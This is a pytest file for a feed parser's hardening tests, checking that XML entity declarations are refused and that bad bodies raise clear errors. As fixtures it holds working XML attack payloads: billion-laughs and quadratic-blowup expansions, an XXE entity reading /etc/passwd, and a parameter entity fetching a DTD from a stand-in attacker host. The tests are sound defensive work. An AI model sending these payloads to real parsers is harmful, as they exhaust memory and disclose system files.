"""Entity declarations are refused before feedparser sees them; bad bodies give one-line ParseErrors."""

from __future__ import annotations

import json
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from feedstation.errors import ParseError
from feedstation.parse import parse_feed
from feedstation.parse.sniff import detect_format, looks_like_feed

SRC = Path(__file__).resolve().parents[2] / "src"

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol4;</title><item><title>&lol4;</title></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&x;</title><item><title>&x;</title><description>&x;</description></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""

NETSCAPE = b"""<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old school</title><link>http://example.com/</link><description>d</description>
<item><title>An item &amp; more</title><link>http://example.com/1</link></item></channel></rss>"""


def quadratic_blowup(entity_kb: int = 100, refs: int = 2000) -> bytes:
    entity = "A" * (entity_kb * 1024)
    body = "&a;" * refs
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE rss [<!ENTITY a "{entity}">]>\n'
        f'<rss version="2.0"><channel><title>{body}</title><item><title>{body}</title></item></channel></rss>'
    ).encode()


@pytest.fixture
def no_network(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("the parser tried to open a network connection")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def test_billion_laughs_is_refused(no_network):
    with pytest.raises(ParseError, match="declares XML entities"):
        parse_feed(BILLION_LAUGHS)


def test_xxe_is_refused_and_leaks_nothing(no_network):
    with pytest.raises(ParseError) as caught:
        parse_feed(XXE)
    assert "declares XML entities" in str(caught.value)
    assert "root:" not in str(caught.value)


def test_parameter_entity_is_refused(no_network):
    with pytest.raises(ParseError, match="declares XML entities"):
        parse_feed(PARAMETER_ENTITY)


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_entities_in_utf16_and_utf32_are_refused(codec):
    text = BILLION_LAUGHS.decode().replace('<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{codec}"?>')
    with pytest.raises(ParseError, match="declares XML entities"):
        parse_feed(text.encode(codec))


def test_entities_hidden_by_utf7_are_refused():
    body = b'<?xml version="1.0" encoding="utf-7"?>\n<!DOCTYPE rss [+ADw-!ENTITY a "AAAA">]>\n<rss><channel><title>&a;</title></channel></rss>'
    with pytest.raises(ParseError, match="declares XML entities"):
        parse_feed(body)


def test_lowercase_entity_declaration_is_refused():
    body = b'<!DOCTYPE rss [<!entity a "x">]><rss><channel><title>&a;</title></channel></rss>'
    with pytest.raises(ParseError, match="declares XML entities"):
        parse_feed(body)


def test_huge_internal_subset_is_refused_not_reported_as_unknown():
    body = quadratic_blowup(entity_kb=20, refs=1)
    assert b"<rss" not in body[:4096]  # the root is past the sniffing window
    with pytest.raises(ParseError, match="declares XML entities"):
        parse_feed(body)


def test_quadratic_blowup_is_refused_with_small_memory_growth():
    # Measured in a fresh process: ru_maxrss is a high-water mark, so earlier tests would hide it.
    script = f"""
import json, resource, sys
sys.path.insert(0, {str(SRC)!r})
sys.path.insert(0, {str(Path(__file__).resolve().parent)!r})
from test_hardening import quadratic_blowup
from feedstation.parse import parse_feed
from feedstation.errors import ParseError
body = quadratic_blowup()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    parse_feed(body)
    outcome = "parsed"
except ParseError as exc:
    outcome = str(exc)
after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
print(json.dumps({{"outcome": outcome, "growth_kb": after - before, "size": len(body)}}))
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    result = json.loads(done.stdout)
    assert result["size"] > 100_000
    assert "declares XML entities" in result["outcome"]
    assert result["growth_kb"] < 20 * 1024, result  # ru_maxrss is in KiB on Linux


def test_netscape_doctype_without_internal_subset_parses_offline(no_network):
    feed = parse_feed(NETSCAPE)
    assert feed.format == "rss"
    assert feed.title == "Old school"
    assert [e.title for e in feed.entries] == ["An item & more"]


def test_empty_body():
    for body in (b"", b"   \n\t"):
        with pytest.raises(ParseError, match="empty body"):
            parse_feed(body, url="https://example.com/feed")


def test_html_page_is_refused_whatever_the_content_type():
    page = b"<!DOCTYPE html><html><head><title>Just a moment...</title></head><body>Cloudflare</body></html>"
    with pytest.raises(ParseError, match="HTML page"):
        parse_feed(page, content_type="application/rss+xml")


def test_unknown_format():
    with pytest.raises(ParseError, match="unknown format"):
        parse_feed(b"Hello, this is plain text")


def test_document_without_feed_structure():
    with pytest.raises(ParseError, match="no feed structure"):
        parse_feed(b"<rss><<<<<<< this is garbage")


def test_content_type_is_not_used_to_pick_the_format():
    atom = b'<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title><entry><id>1</id><title>x</title></entry></feed>'
    assert parse_feed(atom, content_type="text/html").format == "atom"


def test_ill_formed_xml_parses_loosely_with_a_warning():
    body = b'<rss version="2.0"><channel><title>Loose</title><item><title>Broken & unescaped</title><link>http://x/1</link></item></channel></rss>'
    feed = parse_feed(body)
    assert feed.warning and "ill-formed" in feed.warning
    assert feed.entries[0].title == "Broken & unescaped"


def test_well_formed_feed_has_no_warning():
    assert parse_feed(NETSCAPE).warning is None


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        (b'\xff\xfe\x00\x00<\x00\x00\x00r\x00\x00\x00s\x00\x00\x00s\x00\x00\x00', "rss"),
        ("<rss/>".encode("utf-16"), "rss"),
        (b"\xef\xbb\xbf<feed/>", "atom"),
        (b'  {"version": "https://jsonfeed.org/version/1.1"}', "json"),
        (b"<rdf:RDF/>", "rdf"),
        (b"<html></html>", "html"),
        (b"", None),
    ],
)
def test_detect_format(body, expected):
    assert detect_format(body) == expected
    assert looks_like_feed(body) == (expected in ("rss", "atom", "rdf", "json"))
